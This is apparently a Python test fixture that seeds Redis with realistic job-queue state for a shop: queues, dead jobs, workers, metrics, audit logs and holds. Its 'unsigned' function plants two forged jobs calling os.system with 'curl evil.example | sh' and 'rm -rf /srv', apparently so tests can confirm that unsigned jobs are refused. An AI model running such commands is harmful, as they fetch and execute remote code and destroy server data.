"""Fill a Redis with what an application would leave there, the same every time."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import redis

from asok_core.backends.redis.keys import Keys
from asok_core.backends.redis.packed_figures import pack
from asok_core.inspection.histograms import histogram_of
from asok_core.inspection.hold_conditions import parse_conditions
from asok_core.inspection.holds import Hold, rule_text
from asok_core.jobs.envelope import dead_entry, seal
from asok_core.jobs.job import Job
from asok_core.jobs.job_text import to_text
from asok_core.jobs.keyring import Keyring
from tests.conftest import SECRET_KEY

CHAINED = """Traceback (most recent call last):
  File "/srv/shop/lib/smtp.py", line 88, in connect
    self.sock = create_connection(address)
ConnectionRefusedError: smtp.example.org:25

The above exception was the direct cause of the following exception:

Traceback (most recent call last):
  File "/srv/shop/tasks/mail.py", line 41, in send_receipt
    with smtp() as server:
  File "/srv/shop/lib/smtp.py", line 95, in __enter__
    raise DeliveryFailed(order) from error
DeliveryFailed: receipt of order 4711
"""
"""The traceback of an exception that has another as its cause."""
KEYS = Keys()
KEYRING = Keyring(SECRET_KEY.encode())

TASKS: tuple[tuple[str, str, tuple[object, ...], dict[str, object]], ...] = (
    ("shop.mail", "send_receipt", ("ada@example.org", 4711), {}),
    ("shop.billing", "charge", (17,), {"amount": 49.9, "currency": "EUR"}),
    ("shop.images", "resize", ("products/881.jpg",), {"width": 640}),
    ("shop.search", "reindex", ("products",), {"full": False}),
    ("shop.reports", "monthly", (2026, 10), {}),
)

ERRORS = (
    ("TimeoutError", "gateway took longer than {n} s", "gateway.py", 88, "answer = call(order)"),
    ("ConnectionError", "smtp.example.org:{n} refused", "mail.py", 41, "with smtp() as server:"),
    ("ValueError", "order {n} has no lines", "billing.py", 130, "total = sum(lines)"),
    ("KeyError", "'customer_{n}'", "reports.py", 57, "name = names[key]"),
)


def job_id(n: int) -> str:
    return f"{n:08x}-5a1e-4c0d-8e5b-{n:012x}"


def job(n: int, queue: str = "default", **fields: object) -> Job:
    module, function, args, kwargs = TASKS[n % len(TASKS)]
    base: dict[str, object] = {"retries": 3, "backoff": 2}
    return Job(job_id(n), module, function, args, kwargs, queue=queue, **(base | fields))  # type: ignore[arg-type]


def server_time(client: redis.Redis) -> float:
    seconds, micros = client.time()
    return float(seconds) + micros / 1e6


def traceback(n: int) -> tuple[str, str]:
    name, text, file, line, code = ERRORS[n % len(ERRORS)]
    error = f"{name}: {text.format(n=20 + n % 7)}"
    return error, (
        "Traceback (most recent call last):\n"
        f'  File "/srv/shop/tasks/{file}", line {line}, in run\n'
        f"    {code}\n"
        f'  File "/srv/shop/lib/client.py", line 212, in request\n'
        "    raise error from None\n"
        f"{error}\n"
    )


def dead_jobs(now: float, count: int, *, first: int = 5000, every: float = 95.0) -> Iterator[bytes]:
    """Dead jobs, the newest first."""
    for i in range(count):
        n = first + i
        error, trace = traceback(n)
        failed_at = now - 40 - i * every
        envelope = seal(
            job(n, ("default", "high", "low")[i % 3], retry_count=3, enqueued_at=failed_at - 30),
            KEYRING,
        )
        yield dead_entry(envelope, failed_at=failed_at, error=error, traceback=trace)


def unsigned(client: redis.Redis) -> None:
    """Dead jobs as the framework leaves them, and two of one id that another client added."""
    now = server_time(client)
    jobs = [replace(job(n), id=job_id(n % 12)) for n in range(14)]
    jobs[12] = replace(jobs[12], module="os", function="system", args=("curl evil.example | sh",))
    jobs[13] = replace(
        jobs[13], module="os", function="system", args=("rm -rf /srv",), id=job_id(13)
    )
    for at, each in enumerate(jobs):
        text = json.loads(to_text(each)) | {"failed_at": now - 60 - at, "error": traceback(at)[0]}
        client.rpush(KEYS.dead, json.dumps(text))


def pending(client: redis.Redis, queue: str, count: int, *, first: int, age: float) -> None:
    """Pending jobs, the next to run being ``age`` seconds old."""
    now = server_time(client)
    for start in range(0, count, 5000):
        envelopes = [
            seal(job(first + i, queue, enqueued_at=now - age * (1 - i / count)), KEYRING)
            for i in range(start, min(start + 5000, count))
        ]
        client.lpush(KEYS.queue(queue), *envelopes)
    client.sadd(KEYS.queues, queue)


def delayed(client: redis.Redis, count: int) -> None:
    """Retries and jobs for later, with the records of those that failed before."""
    now = server_time(client)
    for i in range(count):
        n = 9000 + i
        retry = i % 3 != 2
        envelope = seal(job(n, "default", retry_count=1 + i % 2 if retry else 0), KEYRING)
        client.zadd(KEYS.delayed, {envelope: now + 4.5 + i * i * 3.1})
        if retry:
            record(client, n, "retrying", now, error=traceback(n)[1], retry_count=1 + i % 2)


def record(client: redis.Redis, n: int, status: str, now: float, **fields: object) -> None:
    this = job(n)
    values: dict[str, object] = {
        "status": status,
        "function": this.task,
        "queue": this.queue,
        "ts": now,
        "enqueued_at": now - 60,
        "retries": 3,
        "retry_count": 0,
    }
    values |= {name: value for name, value in fields.items() if value is not None}
    client.hset(KEYS.job(this.id), mapping=values)  # type: ignore[arg-type]
    client.expire(KEYS.job(this.id), 86_400)


def history(client: redis.Redis, n: int, failed_at: float, retries: int = 3) -> None:
    """The record of a dead job, with how each of its attempts went."""
    error, trace = traceback(n)
    lines = []
    for attempt in range(retries + 1):
        at = failed_at - 0.4 - sum(2**k for k in range(attempt + 1, retries + 1)) * 1.02
        verb = "retry" if attempt < retries else "fail"
        lines.append(json.dumps([f"{at:.6f}", "312.5", verb, "web-1.1", error]))
    record(client, n, "failed", failed_at, error=trace, retry_count=retries,
           started_at=at, finished_at=failed_at, worker="web-1.1",
           enqueued_at=failed_at - 17.2, attempts="\n".join(lines))  # fmt: skip


def recent(client: redis.Redis, count: int) -> None:
    """Jobs that finished lately."""
    now = server_time(client)
    for i in reversed(range(count)):
        n = 7000 + i
        failed = i % 9 == 4
        finished = now - 2.4 - i * 3.7
        record(
            client,
            n,
            "failed" if failed else "completed",
            finished,
            started_at=finished - 0.18 * (1 + i % 6),
            finished_at=finished,
            worker="web-1.1",
            result=None if failed else json.dumps({"sent": True, "id": n}),
            error=traceback(n)[1] if failed else None,
        )
        client.lpush(KEYS.recent, job_id(n))


def worker(
    client: redis.Redis,
    worker_id: str,
    *,
    queues: tuple[str, ...],
    concurrency: int,
    running: int,
    first: int,
    heartbeat: float = 1.4,
) -> None:
    """A live worker with claimed jobs."""
    now = server_time(client)
    client.zadd(KEYS.workers, {worker_id: round((now + 3600) * 1000)})
    client.hset(
        KEYS.worker(worker_id),
        mapping={
            "host": worker_id.partition("-")[0],
            "pid": 4121,
            "version": "0.1.0",
            "queues": ",".join(queues),
            "concurrency": concurrency,
            "configured_concurrency": concurrency,
            "configured_queues": ",".join(queues),
            "processes": 1,
            "started_at": now - 3 * 3600 - 420,
            "beat_at": now - heartbeat,
            "running": running,
            "rss": 84_300_000,
        },
    )
    client.expire(KEYS.worker(worker_id), 3600)
    for i in range(running):
        n = first + i
        queue = queues[i % len(queues)]
        client.lpush(KEYS.active(f"{worker_id}.1", queue), seal(job(n, queue), KEYRING))
        process = f"{worker_id}.1"
        record(client, n, "running", now, queue=queue, worker=process,
               started_at=now - 3.4 - i * 21)  # fmt: skip


def reshaped(client: redis.Redis, worker_id: str, **fields: int | str) -> None:
    """An order of an operator to a worker: its fields in place of those that it has."""
    order: Any = {"ordered_by": "ada@ops-1", "ordered_at": server_time(client) - 240, **fields}
    client.hset(KEYS.worker(worker_id), mapping=order)


def traffic(
    client: redis.Redis, queue: str, level: float, *, failing: float, growth: float
) -> None:
    """Five minutes of counters, with a wave in them."""
    now = int(server_time(client))
    for i in range(31):
        start = now - now % 10 - i * 10
        wave = 1 + 0.45 * ((i * 7) % 11 - 5) / 5
        done = max(round(level * wave), 0)
        counters = {
            "enqueued": round(done * growth),
            "completed": done,
            "failed": round(done * failing),
            "retried": round(done * failing * 0.6),
            "dead": round(done * failing * 0.4),
            "run_ms": done * 240,
            "wait_ms": done * 1900,
        }
        for name, width in (("s", 10), ("m", 60)):
            key = f"{KEYS.namespace}:stats:{queue}:{name}{start - start % width}"
            for field, value in counters.items():
                client.hincrby(key, field, value)
            client.expire(key, 3600 if name == "s" else 86_400)


FIGURES = {
    "shop.mail.send_receipt": (220, 0.002, 140),
    "shop.billing.charge": (64, 0.09, 900),
    "shop.search.reindex": (900, 0.0, 8),
    "shop.reports.monthly": (1, 0.0, 64_000),
    "shop.images.resize": (120, 0.015, 35),
}
"""Attempts a minute, failure rate and milliseconds of each task."""


def tasks(client: redis.Redis) -> None:
    """An hour of figures by task, with a wave in them, and some of tasks that are counted together."""
    now = int(server_time(client))
    for name, (level, failing, took) in (FIGURES | {"other": (3, 0.0, 50)}).items():
        for ago in range(59, -1, -1):
            start = now // 60 * 60 - ago * 60
            ended = round(level * (1 + 0.45 * ((ago * 7) % 11 - 5) / 5))
            if not ended:
                continue
            failed = round(ended * failing)
            counts = (
                ended,
                ended - failed,
                failed,
                failed // 2,
                0,
                ended * took * 1000,
                ended * 700,
            )
            runs = [int(took * 1000 * (0.6 + 0.1 * (n % 9))) for n in range(ended)]
            waits = [(n * 37_001) % 4_000_000 for n in range(ended)]
            packed = pack(counts, histogram_of(runs), histogram_of(waits))
            hour = start // 3600 * 3600
            size = len(packed).to_bytes(2, "big")
            client.append(
                KEYS.task_minutes(name, hour), packed + bytes([(start - hour) // 60]) + size
            )
            client.expire(KEYS.task_minutes(name, hour), 90_000)
        if name != "other":
            client.zadd(KEYS.tasks(now // 86_400 * 86_400), {name: level * 60})
    client.expire(KEYS.tasks(now // 86_400 * 86_400), 90_000)


def workers(client: redis.Redis) -> None:
    """Two workers that have just sent a heartbeat."""
    client.delete(*client.keys(f"{KEYS.namespace}:active:*") or ("none",))
    worker(client, "web-1", queues=("high", "default", "low"), concurrency=4, running=3, first=200)
    worker(client, "web-2", queues=("high", "default"), concurrency=4, running=4, first=220)
    reshaped(client, "web-2", configured_concurrency=2, ordered_concurrency=4)


def audit(client: redis.Redis) -> None:
    """What operators did this night; one purge can still be undone."""
    now = server_time(client)
    actions: tuple[tuple[float, dict[str, object]], ...] = (
        (5400, {"action": "pause", "place": "pending", "queue": "low", "words": "everything",
                "applied": 1}),
        (2460, {"action": "requeue", "place": "dead", "words": "error:Timeout",
                "applied": 1180, "skipped:no longer there": 3, "refused:unsigned": 2}),
        (900, {"action": "requeue", "place": "dead", "words": "everything",
               "applied": 4200, "state": "cancelled"}),
        (250, {"action": "purge", "place": "dead", "words": "task:reports",
               "applied": 6}),
    )  # fmt: skip
    for age, fields in actions:
        operation = f"20260301-{int(age):06d}-5a1e00"
        entry: Any = {"operation": operation, "at": now - age, "who": "ada@ops-1"}
        entry |= {"where": "cache.internal", "state": "done", "applied": 0}
        client.xadd(KEYS.audit, entry | fields)
    client.rpush(KEYS.trash(operation), *dead_jobs(now, 6, first=600))
    client.expire(KEYS.trash(operation), 86_400)


def events(client: redis.Redis) -> None:
    """What changed this night."""
    now = server_time(client)
    happened: tuple[tuple[float, dict[str, str]], ...] = (
        (7300, {"kind": "worker_started", "worker": "web-1", "host": "web-1", "release": "4f2a1c",
                "version": "0.9.0", "queues": "high,default,low"}),
        (5400, {"kind": "queue_paused", "queue": "low", "by": "ada@ops-1",
                "operation": "20260301-005400-5a1e00"}),
        (1900, {"kind": "redis_restarted", "version": "7.0.15"}),
        (640, {"kind": "process_crashed", "worker": "web-2", "process": "web-2.1",
               "reason": "killed by SIGSEGV", "exit": "killed by SIGSEGV"}),
        (95, {"kind": "worker_lost", "worker": "web-3", "by": "web-1", "host": "web-3",
              "reason": "its lease expired"}),
        (94, {"kind": "worker_recovered", "worker": "web-3", "by": "web-1", "returned": "4",
              "dead": "0"}),
        (40, {"kind": "release_changed", "from": "4f2a1c", "to": "77aa00", "worker": "web-4"}),
    )  # fmt: skip
    for age, fields in happened:
        at = now - age
        entry: Any = {"kind": fields["kind"], "at": f"{at:.3f}", **fields}
        client.xadd(KEYS.events, entry, id=f"{int(at * 1000)}-0")
    client.expire(KEYS.events, 86_400)


def holds(client: redis.Redis) -> None:
    """A hold with jobs in two queues, one without jobs that ends, and workers that enforce them or not."""
    now = server_time(client)
    rules = (
        Hold("4f2a1c", "shop.billing.charge", conditions=parse_conditions("0=17"),
             reason="bank is down, see ticket 4711"),
        Hold("77aa00", queue="reports", reason="disk of the report server is full"),
    )  # fmt: skip
    times = ({"at": now - 5400}, {"at": now - 240, "until": now + 1560})
    for rule, when in zip(rules, times, strict=True):
        text = json.loads(rule_text(rule)) | {"by": "ada@ops-1"} | when
        client.hset(KEYS.holds, rule.id, json.dumps(text))
    client.hset(KEYS.holds, "generation", 7)
    if client.exists(KEYS.worker("web-1")):
        client.hset(KEYS.worker("web-1"), "holds", 7)
    for queue, count in (("high", 31), ("low", 4)):
        for n in range(count):
            kept = replace(job(1 + 5 * n, queue, enqueued_at=now - 5000 + n), args=(17,))
            client.lpush(KEYS.held("4f2a1c", queue), seal(kept, KEYRING))
        client.sadd(KEYS.held_lists, f"4f2a1c:{queue}")


def shop(client: redis.Redis) -> None:
    """A shop on an ordinary bad day: the whole picture."""
    now = server_time(client)
    pending(client, "high", 12, first=100, age=14)
    pending(client, "default", 1204, first=1000, age=190)
    pending(client, "low", 88, first=3000, age=3900)
    pending(client, "reports", 31, first=4000, age=1300)
    client.sadd(KEYS.paused, "low")
    delayed(client, 14)
    client.rpush(KEYS.dead, *dead_jobs(now, 46))
    history(client, 5000, now - 40)
    recent(client, 60)
    workers(client)
    events(client)
    traffic(client, "high", 42, failing=0.02, growth=1.0)
    traffic(client, "default", 160, failing=0.09, growth=0.86)
    traffic(client, "low", 9, failing=0.0, growth=1.0)
